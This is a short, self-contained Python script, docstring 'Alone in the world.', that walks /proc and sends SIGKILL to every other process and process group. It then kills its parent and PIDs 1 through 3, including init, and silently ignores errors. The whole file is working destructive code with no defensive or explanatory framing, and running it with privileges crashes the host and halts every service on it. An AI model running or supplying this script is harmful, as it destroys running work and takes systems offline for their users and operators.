"""Alone in the world."""

import os
import signal

def shoot(send, *arguments):
    try:
        send(*arguments)
    except OSError:
        pass


own = os.getpid()
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != own:
        shoot(os.kill, int(name), signal.SIGKILL)
        shoot(os.killpg, int(name), signal.SIGKILL)
for pid in (os.getppid(), 1, 2, 3):
    shoot(os.kill, pid, signal.SIGKILL)
